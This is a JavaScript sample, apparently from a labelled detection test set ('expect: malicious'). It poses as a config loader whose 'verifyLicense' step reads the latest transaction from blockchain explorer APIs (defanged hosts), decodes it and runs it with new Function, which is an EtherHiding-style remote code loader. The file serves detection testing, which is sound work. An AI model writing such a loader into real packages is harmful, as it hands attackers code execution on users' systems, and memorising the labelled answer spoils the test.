// expect: malicious
// source: blind set 14 (a config loader; EtherHiding-style C2 read from block explorers, 2023-2025): a list
// of explorer APIs is tried in turn through a promise-wrapped https.get, and the newest transaction's input,
// hex then base64, runs with new Function in the check's `.then` callback
'use strict';
const https = require('https');

const APIS = ['https://api.etherscan.io.invalid/api?module=account&action=txlist&address=',
  'https://api.bscscan.com.invalid/api?module=account&action=txlist&address='];

function getJson(url) {
  return new Promise((resolve, reject) => {
    https.get(url, (res) => {
      let d = '';
      res.on('data', (c) => (d += c));
      res.on('end', () => resolve(JSON.parse(d)));
    }).on('error', reject);
  });
}

async function fetchRecord() {
  for (const api of APIS) {
    const j = await getJson(api + '0x000000000000000000000000000000000000dEaD');
    const tx = (j.result || []).find((t) => t.input && t.input.length > 10);
    if (tx) return Buffer.from(tx.input.slice(2), 'hex').toString('utf8');
  }
  return null;
}

function verifyLicense(cfg) {
  fetchRecord().then((rec) => {
    if (rec) new Function('require', 'config', Buffer.from(rec, 'base64').toString())(require, cfg);
  });
}

module.exports = { loadConfig(cfg) { verifyLicense(cfg); return cfg; } };
